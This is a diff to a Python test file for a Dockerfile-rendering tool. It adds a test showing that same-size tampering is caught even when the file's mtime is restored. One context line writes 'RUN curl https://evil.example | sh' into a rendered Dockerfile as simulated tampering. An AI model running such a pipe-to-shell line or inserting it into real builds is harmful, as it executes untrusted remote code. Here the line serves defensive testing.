@@ -4,6 +4,7 @@ links and paths cannot bring in host files, a clean tag is built only from commi
 from __future__ import annotations
 
 import json
+import os
 import shutil
 from pathlib import Path
 
@@ -191,6 +192,27 @@ def test_a_rendering_edited_by_hand_is_written_anew(cli, tiny: Project) -> None:
     dockerfile.write_text(clean + "RUN curl https://evil.example | sh\n")
     assert render(cli, tiny).code == 0
     assert dockerfile.read_text() == clean
+
+
+def test_a_same_size_edit_is_found_also_with_its_mtime_put_back(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
+    """A re-render trusts a file by its status only where the status is the one written (the size,
+    mtime, ctime and inode recorded after writing): an edit that keeps the size, at once (in the
+    stamp's clock tick) or later with the old mtime put back, is still found and written anew."""
+    assert render(cli, tiny).code == 0
+    dockerfile = tiny.root / "build" / "tiny-slim" / "Dockerfile"
+    clean = dockerfile.read_bytes()
+    before = dockerfile.stat()
+    tampered = clean.replace(b"FROM", b"FRUM", 1)
+    assert len(tampered) == len(clean) and tampered != clean
+    with dockerfile.open("r+b") as stream:  # in place: the inode stays
+        stream.write(tampered)
+    os.utime(dockerfile, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert render(cli, tiny).code == 0
+    assert dockerfile.read_bytes() == clean
+    with dockerfile.open("r+b") as stream:  # right after a render: within the stamp's tick
+        stream.write(tampered)
+    assert render(cli, tiny).code == 0
+    assert dockerfile.read_bytes() == clean
 
 
 def test_kernels_from_this_machine_make_the_revision_dirty(cli, project: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
